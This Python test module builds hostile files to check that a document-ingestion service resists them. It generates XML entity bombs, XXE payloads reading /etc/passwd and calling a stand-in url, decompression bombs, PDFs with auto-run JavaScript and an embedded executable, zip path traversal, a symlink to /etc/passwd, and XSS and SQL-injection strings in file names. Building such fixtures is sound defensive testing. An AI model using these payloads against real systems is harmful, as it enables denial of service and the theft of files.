"""Files that are made to do harm. Each asks for what it must not get; `url` is an address that nobody may call."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from docx import Document as new_docx

from tests.bundles.samples import nested_zip, zip_of, zip_with_link
from tests.samples import notice_text

ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
BOMB = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "ha">{ENTITIES}]>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_with(parts: dict[str, bytes], text: str = "青禾市总工会通知") -> bytes:
    """A DOCX file in which some parts are replaced or added."""
    buffer = io.BytesIO()
    document = new_docx()
    for line in text.splitlines():
        document.add_paragraph(line)
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    return zip_of({**kept, **parts})


def docx_entity_bomb(url: str) -> bytes:
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&e11;</w:t></w:r></w:p></w:body></w:document>'
    return docx_with({"word/document.xml": (BOMB + body).encode()})


def docx_external_entity(url: str) -> bytes:
    head = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{url}/entity">]>'
    )
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&x;&y;</w:t></w:r></w:p></w:body></w:document>'
    return docx_with({"word/document.xml": (head + body).encode()})


def docx_external_template(url: str) -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        f' Target="{url}/template.dotm" TargetMode="External"/></Relationships>'
    )
    return docx_with({"word/_rels/settings.xml.rels": relations.encode()}, notice_text(41))


def docx_with_macros(url: str) -> bytes:
    data = docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen"}, notice_text(42))
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macros = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(plain, macros)
    return zip_of(parts)


def docx_nested_tables(url: str) -> bytes:
    depth = 3000
    open_, close = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    body = f'<w:document xmlns:w="{WORD}"><w:body>{open_ * depth}{close * depth}</w:body></w:document>'
    return docx_with({"word/document.xml": body.encode()})


def docx_bomb(url: str) -> bytes:
    text = b"<w:t>" + b"a" * 700_000_000 + b"</w:t>"
    return docx_with({"word/document.xml": text})


def odt_entity_bomb(url: str) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    content = f'{BOMB}<o:document-content xmlns:o="{office}"><o:body>&e11;</o:body></o:document-content>'
    return zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()}, 0)


def ofd_entity_bomb(url: str) -> bytes:
    return zip_of({"OFD.xml": f"{BOMB}<OFD>&e11;</OFD>".encode()})


def ofd_external_entity(url: str) -> bytes:
    head = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY y SYSTEM "{url}/ofd">]>'
    return zip_of({"OFD.xml": f"{head}<OFD>&y;</OFD>".encode()})


def pdf_of(objects: list[bytes]) -> bytes:
    """A PDF file with these objects, numbered from 1; the first is its catalogue."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return bytes(out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d %s>>stream\n" % (len(data), entries) + data + b"\nendstream"


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TEXT = b"BT /F1 12 Tf 72 700 Td (Notice text that is long enough to be no scan at all) Tj ET"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"


def pdf_cyclic_pages(url: str) -> bytes:
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"])


def pdf_100_000_pages(url: str) -> bytes:
    kids = b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000)
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", kids, PAGE, stream(TEXT), FONT])


def pdf_stream_bomb(url: str) -> bytes:
    packer, chunk = zlib.compressobj(1), bytes(10_000_000)
    once = b"".join([*(packer.compress(chunk) for _ in range(150)), packer.flush()])
    twice = zlib.compress(once, 9)
    content = stream(twice, b"/Filter[/FlateDecode/FlateDecode]")
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, content, FONT])


def pdf_that_acts(url: str) -> bytes:
    script = f"app.launchURL('{url}/javascript'); this.submitForm('{url}/form');".encode()
    action = b"<</S/JavaScript/JS(%s)>>" % script.replace(b"(", b"\\(").replace(b")", b"\\)")
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R>>/AcroForm<</Fields[]/XFA 7 0 R>>"
        b"/Names<</EmbeddedFiles<</Names[(a.exe) 8 0 R]>>>>>>"
    )
    xfa = stream(f'<xdp><script>xfa.host.gotoURL("{url}/xfa")</script></xdp>'.encode())
    embedded = b"<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"
    return pdf_of([catalog, PAGES, PAGE, stream(TEXT), FONT, action, xfa, embedded, stream(b"MZ")])


def png_of(width: int, height: int) -> bytes:
    """A white picture in black and white."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    rows = b"".join([*(packer.compress(row) for _ in range(height)), packer.flush()])
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def huge_picture(url: str) -> bytes:
    return png_of(20_000, 20_000)


def rtf_that_fetches(url: str) -> bytes:
    return (
        rf"{{\rtf1\ansi{{\*\template {url}/template.dot}}"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{url}/picture.png" \\d}}{{\fldrslt x}}}}'
        r"Notice text that is long enough to be read\par}"
    ).encode()


def html_that_fetches(url: str) -> bytes:
    return (
        f'<html><head><link rel=stylesheet href="{url}/style.css"><script src="{url}/script.js"></script>'
        f'<meta http-equiv=refresh content="0;url={url}/refresh"></head><body><img src="{url}/picture.png">'
        f'<iframe src="{url}/frame"></iframe><p>{notice_text(43)}</p></body></html>'
    ).encode()


def long_line(url: str) -> bytes:
    return ("各级工会可按照每人每年不超过三百元的标准" * 833_334)[:16_666_667].encode()


def odd_characters(url: str) -> bytes:
    text = notice_text(44).replace("批职工", "批\u202e\u2066职\u0007工\x00\x1b[31m\ufeff\u200b")
    return text.encode()


def names_that_act(url: str) -> bytes:
    text = notice_text(45).replace("季某", "<script>alert(1)</script>").replace("权益部", "'; DROP TABLE notices;--")
    return text.encode()


HOSTILE: dict[str, Callable[[str], bytes]] = {
    "docx-entity-bomb.docx": docx_entity_bomb,
    "docx-external-entity.docx": docx_external_entity,
    "docx-external-template.docx": docx_external_template,
    "docx-macros.docm": docx_with_macros,
    "docx-nested-tables.docx": docx_nested_tables,
    "docx-bomb.docx": docx_bomb,
    "odt-entity-bomb.odt": odt_entity_bomb,
    "ofd-entity-bomb.ofd": ofd_entity_bomb,
    "ofd-external-entity.ofd": ofd_external_entity,
    "pdf-cyclic-pages.pdf": pdf_cyclic_pages,
    "pdf-100000-pages.pdf": pdf_100_000_pages,
    "pdf-stream-bomb.pdf": pdf_stream_bomb,
    "pdf-that-acts.pdf": pdf_that_acts,
    "huge-picture.png": huge_picture,
    "rtf-that-fetches.rtf": rtf_that_fetches,
    "html-that-fetches.html": html_that_fetches,
    "long-line.txt": long_line,
    "odd-characters.txt": odd_characters,
    "<b onclick=alert(1)>'; DROP TABLE notices;--.txt": names_that_act,
    "zip-bomb.zip": lambda url: zip_of({"zeros.txt": bytes(650_000_000)}),
    "zip-nested.zip": lambda url: nested_zip(30),
    "zip-traversal.zip": lambda url: zip_of({"../../../tmp/escaped-notice.txt": notice_text(46).encode()}),
    "zip-link.zip": lambda url: zip_with_link("passwd.txt", "/etc/passwd"),
}
"""By file name, what makes each file."""
